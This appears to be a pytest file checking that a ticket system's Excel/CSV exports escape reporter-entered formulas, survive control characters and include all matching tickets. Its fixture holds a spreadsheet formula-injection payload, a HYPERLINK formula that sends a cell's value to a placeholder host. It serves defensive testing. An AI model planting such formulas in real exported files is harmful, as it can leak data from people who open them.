"""H4 and L8: ticket exports open safely in Excel/WPS (no formulas from reporters, no 500 on control
characters) and hold every matching ticket, not one page."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.tickets.conftest import Area, report

FORMULA = '=HYPERLINK("http://x/?"&A1,"详情")'


def _export(client: TestClient, area: Area, fmt: str) -> bytes:
    r = client.get("/v1/tickets/export", params={"format": fmt, "community": area.community}, headers=area.admin)
    assert r.status_code == 200, r.text
    return r.content


def test_reporter_formulas_stay_text(client: TestClient, area: Area) -> None:
    report(client, None, description=FORMULA, reporter_name="a", reporter_phone="13600000000")
    report(client, None, description="@SUM(1+1)", reporter_name="b", reporter_phone="13600000000")
    ws = load_workbook(io.BytesIO(_export(client, area, "xlsx"))).active
    assert ws is not None
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    col = header.index("诉求内容")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + FORMULA for c in cells)
    rows = list(csv.reader(io.StringIO(_export(client, area, "csv").decode("utf-8-sig"))))
    descriptions = [r[rows[0].index("诉求内容")] for r in rows[1:]]
    assert descriptions and not any(d.startswith(("=", "+", "-", "@", "\t", "\r")) for d in descriptions)


def test_control_character_does_not_break_the_xlsx(client: TestClient, area: Area) -> None:
    report(client, None, description="a\u0007b", reporter_name="a", reporter_phone="13600000000")
    ws = load_workbook(io.BytesIO(_export(client, area, "xlsx"))).active
    assert ws is not None
    assert "ab" in [c.value for row in ws.iter_rows(min_row=2) for c in row]


def test_export_holds_every_matching_ticket(client: TestClient, area: Area) -> None:
    for i in range(105):
        report(client, None, description=f"第{i}条", reporter_name="a", reporter_phone="13600000000")
    rows = list(csv.reader(io.StringIO(_export(client, area, "csv").decode("utf-8-sig"))))
    listed = client.get("/v1/tickets", params={"community": area.community}, headers=area.admin).json()
    assert len(rows) - 1 == listed["numberMatched"] >= 105
